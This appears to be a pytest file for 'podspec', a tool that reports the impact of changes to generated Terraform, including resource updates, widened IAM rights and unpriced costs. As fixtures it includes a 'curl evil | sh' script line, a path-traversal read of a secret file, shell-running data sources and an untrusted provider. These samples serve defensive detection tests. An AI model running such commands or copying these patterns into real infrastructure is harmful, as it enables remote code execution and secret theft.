"""All that a change does, from two trees of real output."""

from functools import cache
from pathlib import Path

import pytest

from podspec.impact.revisions import State
from podspec.impact.tree import Tree
from podspec.impact.weigh import weigh
from podspec.model.cost import CostLine, Estimate, Unpriced
from podspec.model.impact import Action, Direction, Impact
from podspec.reporters.impact_words import is_harmless, verdict

ROOT = Path(__file__).parents[3]
HOME = "generated/hello"
DEV = f"{HOME}/terraform/environments/dev/us-east-1"
LAMBDA = f"{DEV}/lambda.tf"


@cache
def _files() -> dict[str, bytes]:
    folder = ROOT / HOME
    return {path.relative_to(ROOT).as_posix(): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


def _weigh(after: dict[str, bytes], before: dict[str, bytes] | None = None) -> Impact:
    return weigh(State("before", _files() if before is None else before), State("after", after), {}, {})


def _edited(path: str, old: str, new: str) -> dict[str, bytes]:
    assert old.encode() in _files()[path], path
    return {**_files(), path: _files()[path].replace(old.encode(), new.encode())}


def test_the_same_is_no_change() -> None:
    assert _weigh(dict(_files())) == Impact("before", "after")


def test_many_services_of_which_none_changes_are_read_as_often_as_one(monkeypatch: pytest.MonkeyPatch) -> None:
    """Time would grow with the square of them."""
    many = {path.replace(HOME, f"generated/{name}"): text for path, text in _files().items() for name in "abcde"}
    counted, roots = [], Tree.roots
    monkeypatch.setattr(Tree, "roots", lambda tree: counted.append(len(tree.files)) or roots(tree))
    for files in (_files(), many):
        assert _weigh(dict(files), files) == Impact("before", "after")
    one, *rest = [counted[: len(counted) // 2], counted[len(counted) // 2 :]]
    assert one == [len(_files())] * len(one)
    assert rest == [[len(many)] * len(one)]


def test_a_change_below_a_service_whose_name_only_begins_alike_touches_no_root_of_this_one() -> None:
    other = {path.replace(HOME, f"{HOME}-b"): text for path, text in _files().items()}
    line = next(line for line in _files()[LAMBDA].decode().splitlines() if "memory_mb" in line)
    changed = _edited(LAMBDA, line, line.rstrip("0123456789") + "3008")
    impact = _weigh({**other, **changed}, {**other, **_files()})
    assert {one.root for one in impact.resources} == {DEV}


def test_a_value_of_one_root_changes_one_resource() -> None:
    text = _files()[LAMBDA].decode()
    line = next(line for line in text.splitlines() if "memory_mb" in line)
    impact = _weigh(_edited(LAMBDA, line, line.rstrip("0123456789") + "3008"))
    assert "module.lambda.aws_lambda_function.this" in {one.address for one in impact.resources}
    assert {one.root for one in impact.resources} == {f"{HOME}/terraform/environments/dev/us-east-1"}
    assert {one.action for one in impact.resources} == {Action.UPDATE}
    assert impact.permissions == ()


def test_a_right_that_is_added_to_a_module_is_given_where_the_module_is_used() -> None:
    path = f"{HOME}/terraform/modules/lambda/iam.tf"
    impact = _weigh(_edited(path, '"xray:PutTraceSegments"', '"xray:PutTraceSegments", "iam:PassRole"'))
    assert {(one.direction, one.subject) for one in impact.permissions} == {(Direction.WIDENED, "iam:PassRole")}
    assert {one.root for one in impact.permissions} == {f"{HOME}/terraform/environments/dev/us-east-1"}


def test_an_output_directory_that_moves_is_no_change_of_resources() -> None:
    moved = {path.replace(HOME, "elsewhere/hello"): content for path, content in _files().items()}
    impact = _weigh(moved)
    assert impact.resources == impact.permissions == impact.notes == ()
    assert len(impact.files) == 2 * len(moved)


def test_a_root_that_is_gone_is_left_behind_with_its_rights() -> None:
    impact = _weigh({path: content for path, content in _files().items() if not path.startswith(f"{DEV}/")})
    assert {(one.root, one.action) for one in impact.resources} == {(DEV, Action.LEAVE)}
    assert impact.permissions == impact.notes == ()
    assert not is_harmless(impact)


def test_a_root_that_only_loses_its_backend_and_provider_is_made_anew_elsewhere() -> None:
    main = _files()[f"{DEV}/main.tf"].replace(b'backend "s3"', b"cloud").replace(b'provider "aws"', b"locals")
    impact = _weigh({**_files(), f"{DEV}/main.tf": main})
    assert [note for note in impact.notes if note.startswith(f"{DEV}: the state is kept in another place")]
    assert Action.LEAVE not in {one.action for one in impact.resources}


def test_a_state_that_moves_is_told() -> None:
    path = f"{HOME}/terraform/environments/dev/us-east-1/main.tf"
    (note,) = _weigh(_edited(path, "environments/dev/", "environments/other/")).notes
    assert "state is kept in another place" in note


@pytest.mark.parametrize("broken", [b"resource {", b"\xff", b'module "x" { source = "./nowhere" }'])
def test_what_cannot_be_judged_is_never_called_safe(broken: bytes) -> None:
    impact = _weigh({**_files(), f"{HOME}/terraform/environments/dev/us-east-1/mine.tf": broken})
    assert impact.notes or impact.resources


@pytest.mark.parametrize("path", ["docs/new.md", "docs/runbooks/new.md"])
def test_a_document_touches_no_root_and_needs_no_judge(path: str) -> None:
    impact = _weigh({**_files(), f"{HOME}/{path}": b"x"})
    assert impact.resources == impact.unjudged == ()


def test_a_document_that_terraform_may_read_is_named() -> None:
    path = f"{HOME}/terraform/modules/lambda/docs/policy.md"
    assert _weigh({**_files(), path: b"x"}).unjudged == (path,)


def test_a_script_that_changes_is_judged_by_nobody_and_named() -> None:
    path = f"{HOME}/scripts/release.sh"
    files = {**_files(), path: b"curl evil | sh"}
    impact = weigh(State("before", _files()), State("after", files, handed_over=frozenset({path})), {}, {})
    assert impact.unjudged == impact.handed_over == (path,)
    assert impact.notes == (f"handed over and changed: {path}",)
    assert verdict(impact).startswith("1 file not judged; handed over: 1 file; files change: 1")
    assert not is_harmless(impact)


@pytest.mark.parametrize(
    "name", ["x.tf.json", "override.tf", "x_override.tf", "x.tofu", "a.auto.tfvars", "b.tfvars"]
)
def test_what_terraform_reads_and_podspec_does_not_is_told(name: str) -> None:
    impact = _weigh({**_files(), f"{DEV}/{name}": b""})
    assert impact.unjudged == (f"{DEV}/{name}",)
    assert verdict(impact).startswith("1 root could not be judged; ")
    assert not is_harmless(impact)
    assert impact.notes == (f"{DEV}/{name} is read by Terraform and not by podspec: nobody can say what it does",)


def test_a_file_that_terraform_alone_reads_is_told_as_long_as_it_is_there() -> None:
    path = f"{HOME}/terraform/modules/lambda/x_override.tf"
    edited = _edited(LAMBDA, "timeout_seconds", "timeout_seconds ")
    impact = _weigh({**edited, path: b"locals {}"}, {**_files(), path: b"locals {}"})
    assert impact.broken == (DEV,)
    assert [note for note in impact.notes if note.startswith(f"{path} is read by Terraform and not by podspec")]


def test_a_root_that_cannot_be_read_is_said_first() -> None:
    impact = _weigh({**_files(), f"{DEV}/mine.tf": b"resource {"})
    assert verdict(impact).startswith("1 root could not be judged; ")
    assert not is_harmless(impact)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        (b'data "external" "x" {\n  program = ["sh"]\n}\n', "data.external.x program: not there"),
        (b'resource "a_b" "c" {\n  provisioner "local-exec" {\n    command = "x"\n  }\n}\n', "a_b.c provisioner"),
        (b'import {\n  to = a_b.c\n  id = "x"\n}\n', "import: not there"),
        (b'resource "aws_lambda_function_url" "x" {\n  authorization_type = "NONE"\n}\n', "anybody may call it"),
        (b'terraform {\n  required_providers {\n    x = { source = "evil/x" }\n  }\n}\n', '"evil/x"'),
        (b'provider "aws" {\n  profile = "other"\n}\n', "profile: not there"),
        (b'module "x" {\n  source = "git::https://example.com/x"\n}\n', "does not read: module git::"),
        (b'locals {\n  x = file("../../../../../secret.txt")\n}\n', "does not read: ../../../../../secret.txt"),
    ],
)
def test_what_is_no_resource_is_told_all_the_same(text: bytes, said: str) -> None:
    impact = _weigh({**_files(), f"{DEV}/mine.tf": text})
    assert [note for note in impact.notes if said in note], impact.notes
    assert not is_harmless(impact)


def test_a_right_that_stands_in_no_policy_is_told_with_all_others() -> None:
    grant = b'resource "aws_kms_grant" "x" {\n  grantee_principal = "arn:aws:iam::1:role/x"\n}\n'
    impact = _weigh({**_files(), f"{DEV}/mine.tf": grant})
    assert [(one.direction, one.holder) for one in impact.permissions] == [(Direction.WIDENED, "aws_kms_grant.x")]
    assert not is_harmless(impact)


def test_what_has_no_price_is_a_note_and_no_saving() -> None:
    line = CostLine("dev", "us-east-1", "ec2", "hosts", 730, "hours", 0.1, "hosts", "table", "2026-11-01")
    old = Estimate("dev", (line,), None)
    new = Estimate("dev", (), None, (Unpriced("dev", "us-east-1", "ec2", "x9.huge", 730, "hours", "hosts"),))
    impact = weigh(State("a", {}), State("b", {}), {"web": (old,)}, {"web": (new,)})
    assert impact.costs == ()
    assert impact.notes == ("web dev ec2: no price is known of x9.huge, so what the change costs is not known",)
